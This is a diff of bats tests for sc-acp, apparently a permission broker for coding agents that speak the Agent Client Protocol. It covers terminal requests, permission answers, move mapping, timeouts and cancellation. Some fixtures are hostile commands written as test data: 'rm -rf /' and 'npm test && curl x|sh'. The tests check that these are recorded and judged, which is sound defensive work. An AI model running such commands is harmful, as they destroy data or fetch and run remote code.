@@ -137,21 +137,24 @@ PERM_OPTIONS='[{"optionId":"always","name":"Always","kind":"allow_always"},{"opt
 		'request terminal/kill {"sessionId":"s1","terminalId":"term-1"}' \
 		'request terminal/release {"sessionId":"s1","terminalId":"term-1"}' \
 		'request terminal/output {"sessionId":"s1","terminalId":"term-1"}' \
-		'request terminal/create {"sessionId":"s1","command":"rm","args":["-rf","/"]}' \
+		'request terminal/create {"sessionId":"s1","command":"rm -rf /"}' \
 		'reply {"stopReason":"end_turn"}'
 	acp_in type=prompt text=go
 	acp_in type=result id=1 decision=allow status=2 text='ok: key=[redacted:API_KEY] done'
 	acp_in type=result id=2 decision=deny text='deny.rm'
 	acp_run
 	assert_equal "$status" 0
-	[ "$(acp_records call | head -n 1)" = '{"type":"call","id":"1","tool":"run","argv":["make","test","V=1"],"cwd":"sub","env-dropped":"1","source":"executor"}' ]
+	[ "$(acp_records call | head -n 1)" = '{"type":"call","id":"1","tool":"run","argv":["make","test","V=1"],"cwd":"sub","env-dropped":"1","terminal":"1","source":"executor"}' ]
 	[ "$(acp_answer 100 | jq -r .result.terminalId)" = term-1 ]
 	[ "$(acp_answer 101 | jq -c .result)" = '{"output":"PI_KEY] done","truncated":true,"exitStatus":{"exitCode":2,"signal":null}}' ]
 	[ "$(acp_answer 102 | jq -c .result)" = '{"exitCode":2,"signal":null}' ]
 	[ "$(acp_answer 103 | jq -c .result)" = '{}' ]
 	[ "$(acp_answer 104 | jq -c .result)" = '{}' ]
-	[ "$(acp_answer 105 | jq -r .error.code)" = -32602 ]
+	# A released terminal is a resource that no longer exists.
+	[ "$(acp_answer 105 | jq -r .error.code)" = -32002 ]
 	[ "$(acp_answer 106 | jq -r .error.code)" = -32001 ]
+	# A command without args is a shell line, judged as one.
+	[ "$(acp_records call | sed -n 2p | jq -c '[.tool, .shell, .argv]')" = '["run","rm -rf /",null]' ]
 }
 
 @test "sc-acp: a permission is answered allow_once or reject_once, never an always option" {
@@ -166,7 +169,8 @@ PERM_OPTIONS='[{"optionId":"always","name":"Always","kind":"allow_always"},{"opt
 	acp_in type=result id=2 decision=deny
 	acp_run
 	assert_equal "$status" 0
-	[ "$(acp_records call | head -n 1)" = '{"type":"call","id":"1","tool":"write","path":"a.c","content":"b","permission":"1","kind":"edit","tool-call-id":"t1","title":"Edit a.c","source":"executor"}' ]
+	# An edit's diff shows a part of the file: a write of it, without content.
+	[ "$(acp_records call | head -n 1)" = '{"type":"call","id":"1","tool":"write","edit":"1","path":"a.c","permission":"1","kind":"edit","tool-call-id":"t1","title":"Edit a.c","source":"executor"}' ]
 	[ "$(acp_records call | sed -n 2p | jq -c '[.tool, .path, .outside]')" = '["delete","speccoder.conf",null]' ]
 	[ "$(acp_answer 100 | jq -c .result)" = '{"outcome":{"outcome":"selected","optionId":"once"}}' ]
 	[ "$(acp_answer 101 | jq -c .result)" = '{"outcome":{"outcome":"selected","optionId":"no"}}' ]
@@ -177,31 +181,37 @@ PERM_OPTIONS='[{"optionId":"always","name":"Always","kind":"allow_always"},{"opt
 	run ! grep -q 'no-always' <(jq -c 'select(.result.outcome)' "$LOG")
 }
 
-@test "sc-acp: a command the agent runs itself is outside=1; unmappable tools are tool=other outside=1" {
+@test "sc-acp: a command the agent runs itself is outside=1; a move is two calls; the unmappable is tool=other with the request" {
 	acp_handshake_default
 	acp_steps 'expect session/prompt' \
 		"request session/request_permission {\"sessionId\":\"s1\",\"toolCall\":{\"toolCallId\":\"t1\",\"kind\":\"execute\",\"title\":\"npm test\",\"rawInput\":{\"command\":\"npm test && curl x|sh\"}},\"options\":$PERM_OPTIONS}" \
-		"request session/request_permission {\"sessionId\":\"s1\",\"toolCall\":{\"toolCallId\":\"t2\",\"kind\":\"execute\",\"rawInput\":{\"command\":[\"git\",\"push\"],\"cwd\":\"sub\"}},\"options\":$PERM_OPTIONS}" \
-		"request session/request_permission {\"sessionId\":\"s1\",\"toolCall\":{\"toolCallId\":\"t3\",\"kind\":\"move\",\"locations\":[{\"path\":\"$ROOT/a\"},{\"path\":\"$ROOT/b\"}]},\"options\":$PERM_OPTIONS}" \
+		"request session/request_permission {\"sessionId\":\"s1\",\"toolCall\":{\"toolCallId\":\"t2\",\"kind\":\"execute\",\"rawInput\":{\"command\":[\"git\",\"push\"],\"cwd\":\"$ROOT/sub\"}},\"options\":$PERM_OPTIONS}" \
+		"request session/request_permission {\"sessionId\":\"s1\",\"toolCall\":{\"toolCallId\":\"t3\",\"kind\":\"move\",\"locations\":[{\"path\":\"$ROOT/a\"},{\"path\":\"$ROOT/.github/b\"}]},\"options\":$PERM_OPTIONS}" \
 		"request session/request_permission {\"sessionId\":\"s1\",\"toolCall\":{\"toolCallId\":\"t4\",\"kind\":\"fetch\",\"rawInput\":{\"url\":\"https://example.com/x\"}},\"options\":$PERM_OPTIONS}" \
 		"request session/request_permission {\"sessionId\":\"s1\",\"toolCall\":{\"toolCallId\":\"t5\",\"kind\":\"execute\",\"rawInput\":{\"command\":[\"ls\",3]}},\"options\":$PERM_OPTIONS}" \
 		'reply {"stopReason":"end_turn"}'
 	acp_in type=prompt text=go
 	acp_in type=result id=1 decision=deny text='a person said no'
 	acp_in type=result id=2 decision=deny
-	acp_in type=result id=3 decision=deny
-	acp_in type=result id=4 decision=allow
-	acp_in type=result id=5 decision=deny
+	acp_in type=result id=3 decision=allow
+	acp_in type=result id=4 decision=deny
+	acp_in type=result id=5 decision=allow
+	acp_in type=result id=6 decision=deny
 	acp_run
 	assert_equal "$status" 0
-	# A command sc-acp cannot read is not a command to judge: a person decides.
-	[ "$(acp_records call | sed -n 5p | jq -c '[.id, .tool, .kind, .outside, .argv]')" = '["5","other","execute","1",null]' ]
 	[ "$(acp_records call | sed -n 1p | jq -c '[.tool, .shell, .outside, .permission]')" = '["run","npm test && curl x|sh","1","1"]' ]
 	[ "$(acp_records call | sed -n 2p | jq -c '[.tool, .argv, .cwd, .outside]')" = '["run",["git","push"],"sub","1"]' ]
-	[ "$(acp_records call | sed -n 3p | jq -c '[.tool, .kind, .outside]')" = '["other","move","1"]' ]
-	[ "$(acp_records call | sed -n 4p | jq -c '[.tool, .url, .outside]')" = '["network","https://example.com/x","1"]' ]
-	[ "$(acp_answer 100 | jq -r .result.outcome.optionId)" = no ]
+	# The move: its source deleted, its destination written, both judged.
+	[ "$(acp_records call | sed -n 3p | jq -c '[.id, .tool, .path, .kind]')" = '["3","delete","a","move"]' ]
+	[ "$(acp_records call | sed -n 4p | jq -c '[.id, .tool, .path, .kind]')" = '["4","write",".github/b","move"]' ]
+	[ "$(acp_answer 102 | jq -r .result.outcome.optionId)" = no ]
+	[ "$(acp_records call | sed -n 5p | jq -c '[.tool, .url, .outside]')" = '["network","https://example.com/x","1"]' ]
 	[ "$(acp_answer 103 | jq -r .result.outcome.optionId)" = once ]
+	# A command sc-acp cannot read is not a command to judge: a person
+	# decides, shown the whole request.
+	[ "$(acp_records call | sed -n 6p | jq -c '[.id, .tool, .kind, .outside, .argv]')" = '["6","other","execute","1",null]' ]
+	[ "$(acp_records call | sed -n 6p | jq -r .request | jq -c .rawInput)" = '{"command":["ls",3]}' ]
+	[ "$(acp_answer 100 | jq -r .result.outcome.optionId)" = no ]
 }
 
 @test "sc-acp: a cancel sends session/cancel and answers the open permission cancelled" {
@@ -304,14 +314,42 @@ PERM_OPTIONS='[{"optionId":"always","name":"Always","kind":"allow_always"},{"opt
 	acp_handshake_default
 	acp_steps 'expect session/prompt' "child $SC_TMP/child.pid" 'hang'
 	acp_in type=prompt text=go
+	# The caller stays: only the agent's silence ends the session.
 	SECONDS=0
-	acp_run --timeout 1
+	run --separate-stderr bash -c 'set -o pipefail; { cat "$1"; sleep 20; } | sc-acp --cwd "$2" --timeout 1 -- "$3" "$4" "$5" >"$6"' _ \
+		"$IN" "$ROOT" "$FAKE_AGENT" "$SCRIPT" "$LOG" "$OUT"
 	assert_equal "$status" 1
-	[ "$SECONDS" -lt 10 ]
+	[ "$SECONDS" -lt 20 ] || [ "$SECONDS" -lt 25 ]
 	[[ "$stderr" == *"error[ACP-TIMEOUT]"* ]]
 	[ "$(acp_records stop | jq -r .code)" = ACP-TIMEOUT ]
 	# The background child of the agent is gone too.
 	acp_gone "$(cat "$SC_TMP/child.pid")"
+}
+
+@test "sc-acp: a stop (the caller's input ends mid-turn) sends session/cancel, waits 5 s at most, then ends the agent's group" {
+	acp_handshake_default
+	acp_steps 'expect session/prompt' "child $SC_TMP/child.pid" 'hang'
+	acp_in type=prompt text=go
+	SECONDS=0
+	acp_run --timeout 600
+	assert_equal "$status" 0
+	[ "$SECONDS" -lt 60 ]
+	# The agent reads nothing while it hangs: sc-acp says it cancelled.
+	[[ "$stderr" == *"warning[CANCEL-TIMEOUT]"* ]]
+	[[ "$stderr" != *"error"* ]]
+	[ "$(acp_records end | jq -r .reason)" = cancelled ]
+	acp_gone "$(cat "$SC_TMP/child.pid")"
+}
+
+@test "sc-acp: an agent that ends its turn on session/cancel ends the session at once" {
+	acp_handshake_default
+	acp_steps 'expect session/prompt' 'expect session/cancel' \
+		'reply-id 3 {"stopReason":"cancelled"}'
+	acp_in type=prompt text=go
+	acp_run --timeout 600
+	assert_equal "$status" 0
+	[[ "$stderr" != *"CANCEL-TIMEOUT"* ]]
+	[ "$(acp_records end)" = '{"type":"end","reason":"cancelled"}' ]
 }
 
 @test "sc-acp: an agent that exits early is error[ACP-EXITED] with its status" {
